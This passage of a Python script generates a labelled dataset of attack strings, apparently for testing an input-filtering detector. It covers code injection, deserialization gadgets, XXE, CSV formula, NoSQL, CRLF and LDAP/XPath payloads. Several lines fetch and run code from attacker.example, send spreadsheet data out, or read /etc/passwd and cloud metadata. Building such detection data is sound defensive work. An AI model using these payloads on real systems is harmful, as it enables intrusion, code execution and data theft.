    ("python-eval-import", "__import__('os').system('id')"),
    ("node-eval-child-process", "require('child_process').exec('curl attacker.example|sh')"),
    ("node-eval-mainmodule", "process.mainModule.require('child_process').execSync('id').toString()"),
    ("python-eval-subclasses", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')"),
    ("proto-pollution-qs", "__proto__[isAdmin]=true"),
    ("proto-pollution-json", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("proto-pollution-constructor-qs", "constructor[prototype][role]=admin"),
    ("proto-pollution-child-process", "{\"constructor\":{\"prototype\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}}"),
    ("csv-dde-cmd", "=cmd|' /C calc'!A0"),
    ("csv-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&A1&B1,\"View lot\")"),
    ("csv-plus-powershell", "+cmd|'/c powershell iwr attacker.example/p.ps1|iex'!A1"),
    ("csv-at-sum-dde", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("csv-minus-dde", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A2:A9),\"//a\")"),
    ("csv-webservice", "=WEBSERVICE(\"http://attacker.example/\"&A1)"),
    ("xxe-file-entity", "<?xml version=\"1.0\"?><!DOCTYPE lot [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><lot><title>&x;</title></lot>"),
    ("xxe-parameter-oob", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/x.dtd\"> %d;]><r/>"),
    ("xinclude-text", "<lot xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></lot>"),
    ("xxe-svg-upload", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&h;</text></svg>"),
    ("xxe-ssrf-imds", "<!DOCTYPE c [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><catalogue>&m;</catalogue>"),
    ("yaml-python-apply", "!!python/object/apply:os.system ['id']"),
    ("yaml-python-new-subprocess", "!!python/object/new:subprocess.check_output [['id']]"),
    ("yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("pickle-protocol0", "cos\nsystem\n(S'id'\ntR."),
    ("java-xmldecoder", "<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>id</string></void></object></java>"),
    ("jackson-polymorphic-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example/Exp\",\"autoCommit\":true}]"),
    ("fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.4:1099/Exp\",\"autoCommit\":true}"),
    ("dotnet-jsonnet-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("php-phar-wrapper", "phar:///var/www/uploads/lots/214/condition.jpg/x"),
    ("php-unserialize-app-class", "O:11:\"LotExporter\":1:{s:4:\"path\";s:19:\"/var/www/html/x.php\";}"),
    ("node-serialize-iife", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
]
CODE_ENC = 5

NOSQLI = [
    ("json-ne-null", "{\"$ne\": null}"),
    ("json-gt-empty", "{\"$gt\": \"\"}"),
    ("where-js-or", "admin' || '1'=='1"),
    ("where-js-return-true", "'; return true; var x='"),
    ("json-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("json-regex-prefix", "{\"$regex\": \"^adm\"}"),
    ("qs-regex-any", "password[$regex]=.*"),
    ("qs-ne-both", "username[$ne]=x&password[$ne]=x"),
    ("json-or-empty", "{\"$or\":[{},{\"a\":\"a\"}]}"),
    ("where-js-infinite-loop", "';while(true){};'"),
    ("where-js-field-leak", "1; return this.reserve > 0"),
    ("json-expr-function", "{\"$expr\":{\"$function\":{\"body\":\"function(){sleep(5000);return true}\",\"args\":[],\"lang\":\"js\"}}}"),
    ("couchdb-selector-gt-null", "{\"selector\":{\"_id\":{\"$gt\":null}}}"),
    ("where-js-seller-or-true", "this.seller_id == 1 || true"),
    ("json-nin-empty", "{\"$nin\":[\"\"]}"),
    ("json-exists", "{\"$exists\":true}"),
    ("json-where-password-regex", "{\"$where\":\"this.password.match(/^a/)\"}"),
    ("qs-gt-empty", "lot[$gt]="),
    ("aggregation-lookup-users", "{\"$lookup\":{\"from\":\"users\",\"localField\":\"seller\",\"foreignField\":\"_id\",\"as\":\"u\"}}"),
    ("json-in-admin", "{\"role\":{\"$in\":[\"admin\",\"staff\"]}}"),
    ("json-accumulator-js", "{\"$accumulator\":{\"init\":\"function(){return sleep(5000)}\",\"accumulate\":\"function(){}\",\"accumulateArgs\":[],\"merge\":\"function(){}\",\"lang\":\"js\"}}"),
    ("qs-where", "filter[$where]=sleep(3000)"),
    ("where-js-regex-guess", "' && this.password.match(/^p/) && '1'=='1"),
    ("json-regex-options", "{\"$regex\":\".*\",\"$options\":\"si\"}"),
    ("qs-exists-false", "email[$exists]=false"),
]
NOSQLI_ENC = 2

CRLF = [
    ("log-forge-login", "Lot 214\r\n[2024-03-01 12:00:00] INFO admin login successful user=admin ip=10.0.0.1"),
    ("header-set-cookie-urlenc", "%0d%0aSet-Cookie:%20session=attacker"),
    ("header-location-urlenc", "lot214%0D%0ALocation:%20https://attacker.example/"),
    ("header-set-cookie-raw", "x\r\nSet-Cookie: bidder=1; Domain=.auctions.example; Path=/"),
    ("response-splitting", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("mail-bcc-raw", "seller@example.com\r\nBcc: everyone@attacker.example"),
    ("mail-subject-cc-lf", "Question about lot 88\nCc: spam@attacker.example"),
    ("mail-bcc-urlenc", "buyer@example.com%0ABcc:victim@attacker.example"),
    ("log-forge-unicode-ls", "Lot 7 watched\u2028[2024-03-01 12:00:01] WARN payment refunded lot=7 amount=9000"),
    ("log-forge-nel", "note\u0085[AUDIT] reserve changed to 0 by admin"),
    ("utf8-truncation-raw", "x\u560a\u560dSet-Cookie: pwn=1"),
    ("utf8-truncation-urlenc", "x%E5%98%8A%E5%98%8DSet-Cookie:%20pwn=1"),
    ("iis-u-crlf", "x%u000d%u000aSet-Cookie:x=1"),
    ("header-xff-raw", "bidder-app/2.1\r\nX-Forwarded-For: 127.0.0.1"),
    ("log-forge-lf-only", "Reserve not met\n2024-03-01T12:00:02Z bid accepted lot=45 bidder=admin amount=1"),
    ("smtp-smuggling-rcpt", "x\r\nRCPT TO:<a@attacker.example>"),
    ("body-injection-double", "%0d%0a%0d%0a<html><body>Lot withdrawn, pay at attacker.example</body></html>"),
    ("double-urlenc-set-cookie", "%250d%250aSet-Cookie:%2520sid=attacker"),
    ("header-access-control", "x%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true"),
    ("mail-to-injection", "Seller Q&A\r\nTo: list@attacker.example\r\n\r\nClick https://attacker.example/verify"),
    ("log-forge-json-line", "ok\n{\"level\":\"info\",\"event\":\"invoice_paid\",\"invoice\":\"INV-2024-00123\"}"),
    ("header-cache-poison", "en%0d%0aX-Cache-Key:%20/lots/214%0d%0a"),
    ("mail-content-type-swap", "Re: lot 12\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example>pay here</a>"),
    ("header-cr-only", "x\rSet-Cookie: a=1"),
    ("log-forge-urlenc", "Lot%2044%0a[INFO]%20user%20admin%20deleted%20bid%2088421"),
    ("header-refresh-inject", "x%0d%0aRefresh:%200;url=https://attacker.example/"),
    ("syslog-forge", "Condition good\n<13>Mar  1 12:00:00 auctions app: admin session opened"),
]
CRLF_ENC = 3

LDAP_XPATH = [
    ("ldap-or-wildcard", "*)(uid=*))(|(uid=*"),
    ("ldap-true-filter", "admin)(&)"),
    ("ldap-objectclass", "*)(|(objectClass=*)"),
    ("ldap-password-attr", "seller*)(userPassword=*"),
    ("ldap-cn-or", "x)(|(cn=*)(cn=admin"),
    ("ldap-broken-or", "admin*)((|userPassword=*)"),
    ("ldap-group-membership", "*)(memberOf=cn=admins,ou=groups,dc=auctions,dc=example"),
    ("ldap-mail-wildcard", "*)(mail=*"),
    ("ldap-description-guess", "specialist)(description=a*"),
    ("xpath-string-or", "' or '1'='1"),
    ("xpath-or-empty", "' or 1=1 or ''='"),
    ("xpath-name-probe", "x' or name()='username' or 'x'='y"),
    ("xpath-union-all-nodes", "'] | //user/* | //*['"),
    ("xpath-count-probe", "' and count(/*)=1 and '1'='1"),
    ("xpath-substring-blind", "' or substring(//user[1]/password,1,1)='a' and '1'='1"),
    ("xpath-numeric-or", "1 or 1=1"),
    ("xpath-paren-breakout", "')] | //* | a[('"),
    ("xpath-lot-title", "Meissen' or contains(//seller/iban,'DE') or 'a'='b"),
    ("xpath-doc-ext", "' or doc('http://attacker.example/x')/a='1"),
]
LDAP_ENC = 1


def pct_all(s):
    return urllib.parse.quote(s, safe="")


def encoded(r, table, n):
    # only encode literals not already percent-encoded (no double-encoding by accident)
    pool = [i for i in range(len(table)) if "%" not in table[i][1]]
    picks = r.sample(pool, n)
    out = []
    for i in sorted(picks):
        cls, v = table[i]
        out.append((cls + "+urlencode", pct_all(v)))
    return out


def build():
    r = random.Random(SEED)
    cats = []
    cats.append(("sqli", SQLI + encoded(r, SQLI, SQLI_ENC), len(SQLI)))
    cats.append(("xss", XSS + encoded(r, XSS, XSS_ENC), len(XSS)))
    cats.append(("cmdi", CMDI + encoded(r, CMDI, CMDI_ENC), len(CMDI)))
    trav = list(TRAVERSAL_LIT)
    combos = [(p, t) for p in TRAV_PREFIXES for t in TRAV_TAILS]
    for p, t in r.sample(combos, TRAV_TPL):
        trav.append(("prefix-join-dotdot", p + t))
    cats.append(("traversal", trav, len(TRAVERSAL_LIT)))
    ssrf = list(SSRF_LIT)
    combos = [(h, p) for h in SSRF_HOSTS for p in SSRF_PATHS]
    for h, p in r.sample(combos, SSRF_TPL):
        ssrf.append(("host-path-join-imds", "http://" + h + p))
    cats.append(("ssrf", ssrf, len(SSRF_LIT)))
    cats.append(("code", CODE + encoded(r, CODE, CODE_ENC), len(CODE)))
    cats.append(("nosqli", NOSQLI + encoded(r, NOSQLI, NOSQLI_ENC), len(NOSQLI)))
    cats.append(("crlf", CRLF + encoded(r, CRLF, CRLF_ENC), len(CRLF)))
    cats.append(("ldap-xpath", LDAP_XPATH + encoded(r, LDAP_XPATH, LDAP_ENC), len(LDAP_XPATH)))
    rows = []
    seen = set()
    for cat, items, _ in cats:
        for cls, v in items:
            assert v and v not in seen, (cat, cls, v)
            seen.add(v)
            rows.append((cat, cls, v))
    return rows, cats


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    out = os.path.join(here, "attacks.jsonl")
    rows, _ = build()
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for n, (cat, cls, val) in enumerate(rows, 1):
            rec = {"id": "%s-%05d" % (PREFIX, n), "category": cat, "class": cls,
                   "label": "attack", "value": val}
            f.write(json.dumps(rec, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
